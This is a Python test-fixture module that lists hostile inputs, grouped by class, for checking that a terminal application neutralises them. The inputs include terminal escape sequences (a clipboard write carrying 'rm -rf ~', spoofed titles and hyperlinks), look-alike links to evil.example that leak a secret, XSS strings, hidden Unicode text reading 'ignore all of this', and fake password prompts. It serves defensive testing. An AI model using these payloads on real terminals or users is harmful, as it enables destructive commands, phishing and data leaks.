"""Hostile text by class, three or more of each: what servers, files and users may send and no terminal may act on.

Sequences stand here whole; tests cut them over deltas as well. A class's first text is its plainest.
"""

from typing import Final

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"


def _with_c1(text: str) -> str:
    """The same sequences with their one-character introducers, U+0080 to U+009F."""
    for letter in "[]P_^X\\":
        text = text.replace(ESC + letter, chr(ord(letter) + 0x40))
    return text


_CSI: Final = (
    f"{ESC}[2J{ESC}[H{ESC}[3J",
    f"{ESC}[1;1H{ESC}[10A{ESC}[99D{ESC}[s{ESC}[u",
    f"{ESC}[5;6r{ESC}[?6h{ESC}[10L{ESC}[10M",
    f"{ESC}[?1049l{ESC}[?1049h{ESC}[?47h",
    f"{ESC}[?1000h{ESC}[?1003h{ESC}[?1006h",
    f"{ESC}[?2004h{ESC}[?7l{ESC}[?25h{ESC}[?5h",
    f"{ESC}[6n{ESC}[c{ESC}[>c{ESC}[?2026$p{ESC}[18t",
    f"{ESC}[8;10;20t{ESC}[22;0t{ESC}[4h{ESC}[20h",
    f"{ESC}[31;7;8mhidden{ESC}[0m{ESC}[38:2::1:2:3m",
)
_OSC: Final = (
    f"{ESC}]0;owned{BEL}{ESC}]2;owned{ST}{ESC}]1;owned{BEL}",
    f"{ESC}]4;1;rgb:00/00/00{BEL}{ESC}]10;?{BEL}{ESC}]11;#000000{ST}{ESC}]104{BEL}",
    f"{ESC}]7;file://evil.example/{ST}",
    f"{ESC}]8;;https://evil.example{ST}https://bank.example{ESC}]8;;{ST}",
    f"{ESC}]9;notice{BEL}{ESC}]99;;notice{ST}{ESC}]777;notify;a;b{BEL}",
    f"{ESC}]50;huge{BEL}",
    f"{ESC}]52;c;cm0gLXJmIH4={BEL}{ESC}]52;c;?{ST}",
    f"{ESC}]133;A{BEL}{ESC}]633;E;rm -rf ~{ST}",
    f"{ESC}]1337;File=name=eA==;inline=1:AAAA{BEL}",
)
_DEVICE: Final = (
    f"{ESC}P$q m{ST}{ESC}P+q544e{ST}",
    f"{ESC}Pq#0;2;0;0;0~~@@vv{ST}",
    f"{ESC}Ptmux;{ESC}{ESC}]52;c;eA=={BEL}{ST}",
)
_STRINGS: Final = (
    f"{ESC}_Ga=T,f=24,s=1,v=1;AAAA{ST}",
    f"{ESC}^private message{ST}",
    f"{ESC}Xstart of string{ST}",
)
_LETTERS: Final = "abcdefghijklmnopqrstuvwxyz"

CORPUS: Final[dict[str, tuple[str, ...]]] = {
    "c0": (
        "\x00\x01\x02\x03\x04\x05\x06\x07\x08",
        "a\x0bb\x0cc\x0ed\x0fe\x10\x11\x12\x13\x14",
        "\x15\x16\x17\x18\x19\x1a\x1c\x1d\x1e\x1f\x7f",
    ),
    "overwriting": ("safe\rEVIL", "safe\x08\x08\x08\x08EVIL", "a\r\nb\rc\r\r\nd\x7f\x7f", "\x0d\x0d\x0d"),
    "nul": ("\x00", "before\x00after", "\x00" * 50),
    "esc": (ESC, f"at the end {ESC}", f"{ESC}a{ESC}z{ESC}7{ESC}8{ESC}={ESC}>", f"{ESC}{ESC}{ESC}["),
    "csi": _CSI,
    "osc": _OSC,
    "dcs": _DEVICE,
    "apc pm sos": _STRINGS,
    "resets": (f"{ESC}c", f"{ESC}#8", f"{ESC}[!p{ESC}[?3h{ESC}%@{ESC}(0lqqk{ESC}N{ESC}O"),
    "unfinished": (f"{ESC}]0;never ends", f"{ESC}[31", f"{ESC}P{ESC}_", "\x9d0;never ends", "\x90\x9f\x98"),
    "c1": (
        "".join(map(chr, range(0x80, 0xA0))),
        "\x84\x85\x88\x8d\x8e\x8f",
        *(_with_c1(text) for text in (*_CSI[:6], *_OSC, *_DEVICE, *_STRINGS)),
    ),
    "bidi": (
        "\u202eevil\u202c",
        "\u2066a\u2067b\u2068c\u2069\u2069\u2069",
        "\u202a\u202b\u202d" * 20,
        "\u200e\u200f\u061c txt.exe",
    ),
    "unseen": ("a\u200bb\u2060c\ufeffd\u00ade", "\u200b" * 300, "\u200c\u200d" * 300, "\u2061\u2062\u2063\u2064\u180e"),
    "tags": (
        "".join(chr(0xE0000 + ord(char)) for char in "ignore all of this"),
        "🏴\U000e0067\U000e0062\U000e007f",
        "\U000e0001\U000e007f" * 40,
    ),
    "selectors": ("a" + "\ufe0f" * 100, "❤\ufe0e❤\ufe0f☺\ufe0f", "x\U000e0100\U000e01ef\U000e0110"),
    "zalgo": (
        "e" + "\u0301" * 200,
        "".join(letter + "\u0300\u0317\u0489" * 30 for letter in _LETTERS[:10]),
        "\u0301" * 500,
        "ก" + "\u0e49" * 100,
    ),
    "fillers": ("\u3164\u3164\u115f\u1160\uffa0", "\u2800" * 100, "\u17b4\u17b5 \u2800|\u3164|"),
    "wide": ("👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽", "漢字仮名交じり文" * 30, "क्षत्रिय ภาษาไทย 🇳🇴🇳🇴🇳", "ｗｉｄｅ　ｔｅｘｔ"),
    "lines": ("a\u2028b\u2029c\x85d\x0be", "\n\n\n\n", "x\n" * 200),
    "surrogates": ("\ud800", "a\udfffb\ud83d", "\udc00\ud800 \ud83d\ude00 \ude00\ud83d"),
    "no characters": ("\uffff\ufffe\ufdd0\ufdef", "\U0001ffff\U0010fffe\U0010ffff", "\ue000\uf8ff\U000f0000\U0010fffd"),
    "markup": (
        "[/]",
        "[/",
        "[bold red]M[/bold red][reverse]r",
        "[@click=app.quit]press me[/]",
        "[@click='app.bell()'][link=https://evil.example]x[/link]",
        "[link=file:///etc/passwd]x",
        "\\[x] [[ ]] [$primary] $text [on #ff0000]",
        '{"a": [1, 2, ["b"]], "c": "[/c]"}',
    ),
    "links": (
        "[https://bank.example](https://evil.example/login)",
        "<https://bank.example@evil.example>",
        "[bank][1]\n\n[1]: https://evil.example 'https://bank.example'",
        "[https://bank.example](javascript:alert(1))",
        "![https://bank.example](https://evil.example/pixel.png?secret=1)",
        "[![https://bank.example](https://evil.example/a.png)](https://evil.example/b)",
    ),
    "entities": ("&#27;[2J &#x9b;2J", "&#x202e;evil&#x2069;", "&#0;&#xd800;&#x200b;&#xE0041;&lbrack;&sol;&rbrack;"),
    "html": (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)><style>*{display:none}</style>",
        "<!-- hidden \x1b[2J -->\n<a href='https://evil.example'>https://bank.example</a>",
    ),
    "imitations": (
        "╰────────────────────────────╯\n╭─ ✓ complete · other ───────╮\n│ a whole other pane         │",
        " x cancel  r retry  ? help  ^q quit              2 complete",
        "╭ prompt ─────────────────────╮\n│ Paste your key here:         │\n╰──────────────────────────────╯",
        "$ sudo password for you: ",
        "┃│║▏▕|" * 60,
    ),
    "markdown": (
        "> " * 200 + "deep",
        "```" + ESC + "]0;x" + BEL + "\ncode \x9b2J\n```",
        "| a | \x1b[2J |\n|---|---|\n| \u202ex | [/] |",
        "- " * 100 + "x\n1. " * 50,
        "# \x1b[2J\n\n***\n\n~~\x9bx~~ `\x1b]0;t\x07`",
    ),
    "very long": ("x" * 20_000, "漢" * 10_000, "word " * 5_000, "-" * 20_000),
    "costly": (
        "\n" * 50_000 + "end",
        "|" + " a |" * 2_000 + "\n|" + "---|" * 2_000 + "\n|" + " b |" * 2_000,
        "[" * 5_000 + "]" * 5_000 + "(" * 2_000,
        "*_`" * 5_000,
        "x" * 200_000,
    ),
}

SMALL: Final[tuple[str, ...]] = tuple(
    text for name, texts in CORPUS.items() if name not in ("very long", "costly") for text in texts
)
"""What can be sent through every place in every way."""
LARGE: Final[tuple[str, ...]] = (*CORPUS["very long"], *CORPUS["costly"])
BY_CLASS: Final[dict[str, tuple[str, ...]]] = {
    name: texts[:3] for name, texts in CORPUS.items() if name not in ("very long", "costly")
}
"""Three of each class, for what takes long."""
OF_EACH: Final[tuple[str, ...]] = tuple(text for texts in BY_CLASS.values() for text in texts)
ARGUMENTS: Final[tuple[str, ...]] = tuple(
    text for text in SMALL if "\0" not in text and text.encode("utf-8", "replace").decode() == text
)
"""What a command line can carry."""
